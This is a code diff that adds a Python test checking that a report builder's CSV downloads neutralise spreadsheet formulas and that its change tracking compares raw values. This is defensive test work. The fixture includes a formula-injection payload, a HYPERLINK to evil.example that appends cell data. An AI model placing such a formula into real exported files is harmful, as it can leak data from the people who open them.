@@ -324,3 +324,40 @@ def test_an_unreadable_versions_json_is_an_error_and_no_version_is_deleted(tmp_p
     (output / "versions.json").write_text('[{"id": "../../x"}]')
     assert "expected a list of versions" in build(project).stderr
     assert files(output / "v") == before
+
+
+FORMULAS = """\
+id,note,amount
+1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-5
+2,+1,3
+3,-2+3,4
+4,@SUM(A1),5
+5,plain,-6
+6,=1+1,7
+"""
+
+
+def test_csv_downloads_neutralise_formulas_and_what_changed_compares_raw_values(tmp_path):
+    report = ("# Cells\n\n```sql cells\nselect id, note, amount from notes order by id\n```\n\n"
+              "```sql controls\nselect chr(9) || 'tab' as t, chr(13) || 'cr' as r, '''=already' as q\n```\n\n"
+              "{{ table(cells) }}\n\n{{ table(controls) }}\n")
+    project = versioned_site(tmp_path / "site", {"sources/notes.csv": FORMULAS, "reports/cells.md": report})
+    build_ok(project)
+    data = project / "build" / "latest" / "_data" / "cells"
+    with open(data / "cells.csv", newline="") as handle:
+        table = list(csv.reader(handle))
+    assert table == [["id", "note", "amount"],
+                     ["1", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "-5"],  # numbers stay numbers
+                     ["2", "'+1", "3"], ["3", "'-2+3", "4"], ["4", "'@SUM(A1)", "5"], ["5", "plain", "-6"],
+                     ["6", "'=1+1", "7"]]
+    with open(data / "controls.csv", newline="") as handle:
+        assert list(csv.reader(handle))[1] == ["'\ttab", "'\rcr", "''=already"]
+    parquet = duckdb.sql(f"select note from read_parquet('{data / 'cells.parquet'}') order by id").fetchall()
+    assert parquet[0] == ('=HYPERLINK("http://evil.example/?"&A1,"Click")',)  # the snapshot keeps the raw data
+    # A cell that changes from =1+1 to '=1+1 (raw values) is a change, though both downloads start with '=1+1.
+    (project / "sources" / "notes.csv").write_text(FORMULAS.replace("6,=1+1,7", "6,'=1+1,7"), encoding="utf-8")
+    build_ok(project)
+    changes = (project / "build" / "latest" / "_changes" / "index.html").read_text()
+    assert ("Cells", "cells", 6, 6, 1, 1) in _html_changes(changes)[1]
+    diff = run_cli("versions", "diff", DAY, "latest", "--project", project)
+    assert ("Cells", "cells", 6, 6, 1, 1) in _terminal_changes(diff.stdout)[1]
